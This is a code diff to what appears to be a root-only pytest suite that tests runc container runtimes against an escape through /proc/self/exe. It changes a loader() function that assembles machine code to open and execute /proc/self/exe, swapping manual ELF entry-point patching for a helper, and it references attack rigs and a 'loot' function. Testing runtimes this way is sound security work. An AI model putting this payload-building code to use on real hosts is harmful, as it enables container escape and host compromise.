@@ -13,7 +13,7 @@ import struct
 
 import pytest
 
-from attacks.rig import OVERWRITE, Host
+from attacks.rig import OVERWRITE, Host, standalone
 from cutaway.linux import libc, trampoline
 from runc.bundles import Bundle, Runtime
 from support.process import wait_until
@@ -22,7 +22,6 @@ pytestmark = pytest.mark.root
 
 AT_FDCWD = -100
 EXECVE = {"x86_64": 59, "aarch64": 221}
-ENTRY = 24  # of the entry point's address in an ELF header
 REFUSED = "exec /proc/self/exe: permission denied"
 
 
@@ -58,19 +57,7 @@ def loader() -> bytes:
     envp = made.place(struct.pack("<QQ", made.place(b"PATH=/bin\0"), 0))
     made.call(libc.NUMBERS["openat"], AT_FDCWD, made.place(b"/proc/self/exe\0"), os.O_RDONLY, failure="open")
     made.call(EXECVE[os.uname().machine], words[0], argv, envp, failure="execute")
-    image = bytearray(made.image(os.uname().machine))
-    # It is not executed as a trampoline is: enter behind the look at its arguments.
-    (entry,) = struct.unpack_from("<Q", image, ENTRY)
-    struct.pack_into("<Q", image, ENTRY, entry + _behind_the_check(image[176:]))
-    return bytes(image)
-
-
-def _behind_the_check(code: bytearray) -> int:
-    """Where the address of the calls is loaded, into rbx or x20."""
-    if os.uname().machine == "x86_64":
-        return code.index(b"\xbb")
-    words = struct.unpack_from("<64I", code)
-    return 4 * next(at for at, word in enumerate(words) if word & 0xFFE0001F == 0xD2800014)
+    return standalone(made)
 
 
 def loot(bundle: Bundle) -> list[str]:
